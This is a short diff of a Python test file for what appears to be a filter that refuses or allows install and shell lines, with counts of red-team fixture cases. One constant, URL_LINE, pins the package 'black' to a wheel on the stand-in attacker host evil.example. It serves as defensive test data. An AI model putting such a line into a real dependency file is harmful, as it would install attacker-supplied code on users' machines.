@@ -43,9 +43,9 @@ def test_the_fixture_is_there_and_refuses_and_allows():
     # 300 generated lines, 150 of red team 12's fragments, 13 with command substitutions, 22
     # assignments holding expansions (red team 13 R13-9), 16 lines of launchers that run shell
     # text (R13-5), 15 of red team 13's shell text (arithmetic, heredoc bodies the shell
-    # expands, alias values, trap actions)
+    # expands, alias values, trap actions), 6 of red team 32's launched Pythons
     outcomes = {tuple(c["rules"]) for c in CASES}
-    assert len(CASES) == 581 and () in outcomes and ("install-unreadable",) in outcomes
+    assert len(CASES) == 587 and () in outcomes and ("install-unreadable",) in outcomes
 
 
 URL_LINE = "black @ https://evil.example/black-1.0-py3-none-any.whl\n"
